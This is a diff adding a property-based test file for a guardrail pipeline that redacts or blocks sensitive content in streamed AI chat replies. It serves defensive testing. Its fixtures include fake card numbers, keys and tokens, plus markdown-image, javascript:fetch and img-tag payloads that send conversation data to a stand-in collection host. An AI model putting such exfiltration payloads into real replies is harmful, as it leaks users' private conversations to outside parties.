@@ -1,0 +1,209 @@
+import assert from 'node:assert/strict';
+import process from 'node:process';
+import { describe, it } from 'node:test';
+import fc from 'fast-check';
+import { isTelephone } from '../../src/adapters/phone/is-telephone.ts';
+import { createInMemoryJournal } from '../../src/adapters/in-memory/journal.ts';
+import type { JsonObject, JsonValue } from '../../src/core/json.ts';
+import { createDefaultPipeline } from '../../src/domain/guardrails/default-pipeline.ts';
+import { DEFAULT_POLICY, type Policy } from '../../src/domain/guardrails/policy.ts';
+import { redact } from '../../src/domain/guardrails/redact.ts';
+import type { Action, GuardPart, GuardPipeline } from '../../src/ports/guard.ts';
+import { createCountingIds, createManualClock } from '../fixtures/manual-system.ts';
+import { ask, eventsOf, guardService, listed } from './guard-service.ts';
+import { chunksOf, FIELDS, framings, overTheWire, placeOf, received, type Framing, type Written } from './split-streams.ts';
+
+/** Random replies of each kind. */
+const RUNS = Number(process.env['PARLEY_TEST_RUNS'] ?? 4000);
+
+const system = { clock: createManualClock(), ids: createCountingIds(), isTelephone };
+
+/** The default policy with one action for everything its checks find in a reply. */
+function policyWith(action: Action): Policy {
+  const rules = [{ direction: 'output' as const, channels: ['user' as const], steps: [{ threshold: 0.5, action }] }];
+  const lists = [{ name: 'project', phrases: ['Blue Heron', 'wintermute', '青い鷺'] }];
+  const phrases = { detector: 'phrases', fail: 'closed' as const, trustedRoles: [], settings: { lists }, rules };
+  return { ...DEFAULT_POLICY, checks: [...DEFAULT_POLICY.checks.map((check) => ({ ...check, rules })), phrases] };
+}
+
+const PRIVATE_KEY = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEAx3vR9Zb0Qk1yTq8cW\n'.repeat(10)}-----END RSA PRIVATE KEY-----`;
+const TOKEN = `eyJhbGciOiJIUzI1NiJ9.${'eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0'.repeat(6)}.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U`;
+
+const finding = fc.constantFrom(
+  '4111 1111 1111 1111',
+  '3782-822463-10005',
+  'jo.bloggs@mail.example.org',
+  'IBAN GB82 WEST 1234 5698 7654 32.',
+  'DE89370400440532013000',
+  'NL91 ABNA 0417 1643 00',
+  'Call +44 20 7946 0958 now',
+  'phone (415) 555-2671',
+  'SSN 536-22-1234',
+  '536221234 is my SSN',
+  'born on 12 January 1980',
+  'Aadhaar: 2341 2341 2346',
+  'NHS 943 476 5919',
+  'AB 12 34 56 C',
+  '192.168.10.44',
+  '2001:db8:85a3::8a2e:370:7334',
+  '00:1b:44:11:3a:b7',
+  '0x52908400098527886E0F7030069857D2E4169EE7',
+  'password: Tr0ub4dor&3x!',
+  'password is now: hunter2Blue!77',
+  'api_key = "q7Zp2Lw9Xc4Rt6Yb1Nm8Vk3Hs5Jd0Fg"',
+  'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
+  'sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3dEf6hIj9kLm2nOp5q',
+  'AKIAIOSFODNN7QRSTUVW',
+  'postgres://admin:s3cr3tPa55@db.internal:5432/app',
+  'Authorization: Bearer abcDEF123456ghiJKL789012mnoPQR345678',
+  PRIVATE_KEY,
+  TOKEN,
+  'the Blue-Heron files',
+  'blue   héron',
+  'WINTERMUTE',
+  '私の青い鷺です',
+  '![a](https://collect.example/i.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIGNvbnZlcnNhdGlvbg)',
+  '[here](javascript:fetch("https://collect.example"))',
+  '<img src="https://collect.example/p?q=my+private+question+about+health">',
+);
+const filler = fc.oneof(
+  fc.constantFrom(
+    ' ',
+    ', ',
+    '. ',
+    '-',
+    '@',
+    ' 12 ',
+    '4',
+    '\n',
+    'é',
+    '😀',
+    '𝟜',
+    'a.b',
+    'number',
+    ' the key ',
+    '_',
+    '\u00a0',
+    '\u200b',
+    '"',
+    '\\',
+  ),
+  fc.string({ unit: 'grapheme', maxLength: 10 }),
+  fc.constantFrom('Here is what you asked for ', 'and it was sent on Thursday to the office ', 'in 2024, '),
+);
+const apart = fc.constantFrom(' ', '\n', ' "', ', ', ' (', '\t');
+const text = fc
+  .array(
+    fc.oneof({ weight: 3, arbitrary: filler }, { weight: 1, arbitrary: fc.tuple(apart, finding, apart).map((pieces) => pieces.join('')) }),
+    { maxLength: 10 },
+  )
+  .map((pieces) => pieces.join(''));
+const texts: fc.Arbitrary<readonly Written[]> = fc.uniqueArray(
+  fc.record({
+    choice: fc.constantFrom(0, 0, 1),
+    field: fc.constantFrom(...FIELDS),
+    text,
+    cuts: fc.array(fc.nat(), { maxLength: 20 }),
+  }),
+  { minLength: 1, maxLength: 3, selector: ({ choice, field }) => `${choice} ${field}` },
+);
+
+/** A guard that is asked one reply after the other. */
+function guardOver(pipeline: GuardPipeline) {
+  let chunks = (): AsyncIterable<JsonObject> => listed([]);
+  const service = guardService({ chunks: () => chunks() }, { deps: { pipeline, journal: createInMemoryJournal({ capacity: 10 }) } });
+  return async (written: readonly Written[], framing: Framing): Promise<JsonValue[]> => {
+    chunks = () => overTheWire(chunksOf(written, framing.order), framing);
+    return eventsOf(await service.chat(ask('Hi', { stream: true })));
+  };
+}
+
+/** What a text may be for the client at most: up to the first blocked span, and redacted. */
+async function judged(pipeline: GuardPipeline, written: Written) {
+  const { signal } = new AbortController();
+  const part = (text: string): GuardPart => ({ id: placeOf(written), role: 'assistant', channel: 'user', text });
+  const evaluate = (text: string) =>
+    pipeline.evaluate({ requestId: 'r', direction: 'output', parts: [part(text)], unscanned: [] }, { signal });
+  const { findings, rewrites } = await evaluate(written.text);
+  const first = Math.min(...findings.filter(({ action }) => action === 'block').map(({ start }) => start));
+  if (first === Infinity) return { isBlocked: false, text: rewrites[0]?.text ?? written.text };
+  const before = findings.filter(({ action, end }) => action === 'redact' && end <= first);
+  return { isBlocked: true, text: redact(written.text.slice(0, first), before) };
+}
+
+describe('a reply with findings in any of its texts, cut anywhere', () => {
+  const redacting = createDefaultPipeline({ ...system, policy: policyWith('redact') });
+  const blocking = createDefaultPipeline({ ...system, policy: policyWith('block') });
+
+  const redacted = guardOver(redacting);
+  const blocked = guardOver(blocking);
+  const shipped = createDefaultPipeline(system);
+  const decided = guardOver(shipped);
+
+  it('reaches the client as the redaction of the whole', { timeout: 120_000 }, async () => {
+    await fc.assert(
+      fc.asyncProperty(texts, framings, async (written, framing) => {
+        const events = await redacted(written, framing);
+        for (const one of written) assert.equal(received(events, one), (await judged(redacting, one)).text, placeOf(one));
+      }),
+      { numRuns: RUNS },
+    );
+  });
+
+  for (const [name, pipeline, ask] of [
+    ['everything is blocked', blocking, blocked],
+    ['the shipped policy decides', shipped, decided],
+  ] as const) {
+    it(
+      `gives the client nothing of a blocked span, and the redaction of what is before it, when ${name}`,
+      { timeout: 120_000 },
+      async () => {
+        await fc.assert(
+          fc.asyncProperty(texts, framings, async (written, framing) => {
+            const events = await ask(written, framing);
+            const wholes = await Promise.all(written.map((one) => judged(pipeline, one)));
+            const isBlocked = wholes.some((whole) => whole.isBlocked);
+            for (const [index, one] of written.entries()) {
+              const got = received(events, one);
+              const { text: whole = '' } = wholes[index] ?? {};
+              assert.ok(isBlocked ? whole.startsWith(got) : whole === got, `${placeOf(one)}: ${JSON.stringify([got, whole])}`);
+            }
+            assert.equal(JSON.stringify(events).includes('"finish_reason":"content_filter"'), isBlocked);
+            assert.equal(events.at(-1), '[DONE]');
+          }),
+          { numRuns: RUNS * 0.75 },
+        );
+      },
+    );
+  }
+
+  it('stays the JSON that it was in the arguments of calls, the same as in a whole reply', { timeout: 120_000 }, async () => {
+    const value = fc.letrec<{ value: JsonValue }>((tie) => ({
+      value: fc.oneof(
+        { weight: 3, arbitrary: fc.tuple(text, fc.constantFrom('', '\n', '\t', '"', '\\')).map(([said, end]) => end + said + end) },
+        fc.constantFrom(4_111_111_111_111_111, 536_221_234, 12, true, null),
+        fc.array(tie('value'), { maxLength: 2 }),
+        fc.dictionary(fc.constantFrom('card', 'note', 'to', 'password'), tie('value'), { maxKeys: 2 }),
+      ),
+    })).value;
+    const given = fc.record({ value, indent: fc.constantFrom(0, 2), isAscii: fc.boolean(), cuts: fc.array(fc.nat(), { maxLength: 30 }) });
+    await fc.assert(
+      fc.asyncProperty(given, framings, async ({ value: said, indent, isAscii, cuts }, framing) => {
+        const plain = JSON.stringify({ said }, null, indent);
+        const one: Written = { choice: 0, field: 'call 0', text: isAscii ? escaped(plain) : plain, cuts };
+        const streamed = received(await redacted([one], framing), one);
+        assert.equal(streamed, (await judged(redacting, one)).text);
+        assert.doesNotMatch(streamed, /4111111111111111/);
+        JSON.parse(streamed);
+      }),
+      { numRuns: RUNS / 4 },
+    );
+  });
+});
+
+/** The same JSON with every character beyond ASCII as an escape. */
+function escaped(json: string): string {
+  return json.replaceAll(/[^\x20-\x7e]/g, (character) =>
+    character === '\n' ? character : `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
+  );
+}
